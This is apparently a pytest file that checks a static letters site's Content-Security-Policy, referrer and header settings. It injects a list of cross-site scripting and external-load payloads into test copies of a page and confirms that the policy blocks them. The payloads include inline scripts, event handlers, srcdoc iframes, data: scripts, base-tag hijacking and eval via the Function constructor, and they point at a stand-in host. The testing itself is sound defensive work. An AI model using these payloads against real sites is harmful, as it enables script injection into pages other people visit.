"""The policy in every page: nothing in a page's text can run, load from elsewhere or lead elsewhere by itself.

Payloads are put into finished pages, behind all checks of contributed content: the policy is the last wall.
"""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

import pytest
from lxml import html

from tests.browser.browsing import opened, served
from tests.browser.test_privacy import overheard
from undersigned.html.safety import HEADERS_FILE, POLICY, headers

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

LETTER = "letters/2013/2013-04-10-kerry-china-visit.html"
OTHER = "http://other.example"
#: What would set `pwned` or ask something of another host if it could.
PAYLOADS = {
    "script": "<script>pwned = 1</script>",
    "script from elsewhere": f"<script src='{OTHER}/x.js'></script>",
    "module": "<script type='module'>globalThis.pwned = 1</script>",
    "data as script": "<script src='data:text/javascript,pwned=1'></script>",
    "handler": "<img src='_static/undersigned.svg' onload='pwned = 1' onerror='pwned = 1'>",
    "handler in SVG": "<svg onload='pwned = 1'><animate onbegin='pwned = 1' attributeName='x' dur='1s'/></svg>",
    "details": "<details open ontoggle='pwned = 1'>x</details>",
    "frame of text": "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "frame": f"<iframe src='{OTHER}/frame'></iframe>",
    "object": f"<object data='{OTHER}/object'></object><embed src='{OTHER}/embed'>",
    "picture": f"<img src='{OTHER}/picture'><picture><source srcset='{OTHER}/source'><img></picture>",
    "media": f"<video src='{OTHER}/video' poster='{OTHER}/poster' autoplay></video><audio src='{OTHER}/audio' autoplay></audio>",
    "style": f"<style>body {{ background: url({OTHER}/style) }}</style>",
    "style attribute": f"<p style='background: url({OTHER}/attribute)'>x</p>",
    "style sheet": f"<link rel='stylesheet' href='{OTHER}/sheet'>",
    "font": f"<style>@font-face {{ font-family: x; src: url({OTHER}/font) }} p {{ font-family: x }}</style>",
    "prefetch": f"<link rel='prefetch' href='{OTHER}/prefetch'><link rel='preload' as='image' href='{OTHER}/preload'>",
    "manifest": f"<link rel='manifest' href='{OTHER}/manifest'>",
    "base": f"<base href='{OTHER}/'><img src='after-base'>",
}


@pytest.fixture(scope="module")
def attacked(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    """Lay a letter's page with each payload beside the site's own style sheets and scripts."""
    folder = tmp_path_factory.mktemp("attacked")
    shutil.copytree(site / "_static", folder / "_static")
    shutil.copytree(site / "pagefind", folder / "pagefind", dirs_exist_ok=True)
    text = (site / LETTER).read_text("utf-8").replace("../../", "./")
    for number, payload in enumerate(PAYLOADS.values()):
        written = text.replace("<main", f"{payload}<main", 1)
        assert written != text
        (folder / f"{number}.html").write_text(written, "utf-8")
        (folder / f"{number}-free.html").write_text(
            written.replace('http-equiv="Content-Security-Policy"', ""), "utf-8"
        )
    with served(folder) as origin:
        yield folder, origin


def test_every_page_has_the_policy_before_all_that_it_holds_for_and_nothing_that_it_would_refuse(site: Path) -> None:
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 1000
    for path in pages:
        root = html.parse(str(path)).getroot()
        first = next(
            element
            for element in root.find("head")
            if element.get("charset") is None and element.get("name") != "viewport"
        )
        assert (first.get("http-equiv"), first.get("content")) == ("Content-Security-Policy", POLICY), path
        assert root.xpath("//meta[@name='referrer']/@content") == ["no-referrer"], path
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            handlers = [name for name in element.attrib if name.startswith("on") or name in ("style", "srcdoc")]
            assert not handlers, (path, element.tag, handlers)
            assert element.tag not in ("style", "iframe", "object", "embed", "base"), (path, element.tag)
            if element.tag == "script" and element.get("type") != "application/ld+json":
                assert element.get("src"), (path, "a script in the page")
                assert not (element.text or "").strip(), (path, "a script in the page")
            if element.tag in ("script", "img", "source", "video", "audio"):
                assert "//" not in element.get("src", ""), (path, element.get("src"))


@pytest.mark.parametrize("name", PAYLOADS)
def test_what_got_into_a_page_does_nothing(browser: Browser, attacked: tuple[Path, str], name: str) -> None:
    number, (_, origin) = list(PAYLOADS).index(name), attacked
    with overheard(browser) as (context, listener):
        page = context.new_page()
        page.goto(f"{origin}/{number}.html", wait_until="load")
        page.wait_for_timeout(300)
        assert page.evaluate("globalThis.pwned") is None
        assert page.evaluate("document.baseURI").startswith(origin)
    assert listener.heard == []


def test_without_the_policy_the_same_payloads_do_harm(browser: Browser, attacked: tuple[Path, str]) -> None:
    _, origin = attacked
    harmless = []
    for number, name in enumerate(PAYLOADS):
        with overheard(browser) as (context, listener):
            page = context.new_page()
            page.goto(f"{origin}/{number}-free.html", wait_until="load")
            page.wait_for_timeout(400)
            if page.evaluate("globalThis.pwned") is None and not listener.heard:
                harmless.append(name)
    # What Chromium asks for only where a page is installed; other browsers may do otherwise.
    assert set(harmless) <= {"manifest"}


def test_text_is_no_markup_and_no_program_even_for_scripts_of_the_site(browser: Browser, origin: str) -> None:
    with opened(browser, f"{origin}/{LETTER}") as page:
        for attempt in (
            "document.body.innerHTML = '<b>x</b>'",
            "document.write('x')",
            "new Worker('http://other.example/worker.js')",
            "document.head.appendChild(Object.assign(document.createElement('script'), {src: 'http://other.example/x.js'}))",
            "document.head.appendChild(Object.assign(document.createElement('script'), {text: 'pwned = 1'}))",
            "setTimeout('pwned = 1')",
            "[].constructor.constructor('pwned = 1')()",
        ):
            # Later, as what the tests themselves run may do more than a page.
            said = page.evaluate(
                "() => new Promise((tell) => setTimeout(() => { try { "
                f"{attempt}; tell('done') }} catch (error) {{ tell(error.name) }} }}))"
            )
            assert said in ("TypeError", "EvalError", "SecurityError"), (attempt, said)
        assert page.evaluate("globalThis.pwned") is None


def test_a_link_that_is_followed_does_not_tell_where_it_stood(browser: Browser, origin: str) -> None:
    with overheard(browser) as (context, _):
        page = context.new_page()
        page.goto(f"{origin}/{LETTER}")
        asked: list[tuple[str, str | None]] = []
        page.on("request", lambda request: asked.append((request.url, request.headers.get("referer"))))
        link = page.locator("main a[href^='http']").first
        address = link.get_attribute("href")
        with page.expect_request(lambda request: request.url == address):
            link.evaluate("link => link.click()")
    assert asked
    assert not any(referer for _, referer in asked)


def test_headers_for_hosts_that_take_them_are_published(site: Path) -> None:
    text = (site / HEADERS_FILE).read_text()
    assert text == headers()
    assert text.startswith("/*\n  ")
    for line in (
        "Content-Security-Policy: frame-ancestors 'none'",
        "X-Content-Type-Options: nosniff",
        "Referrer-Policy: no-referrer",
    ):
        assert f"  {line}\n" in text
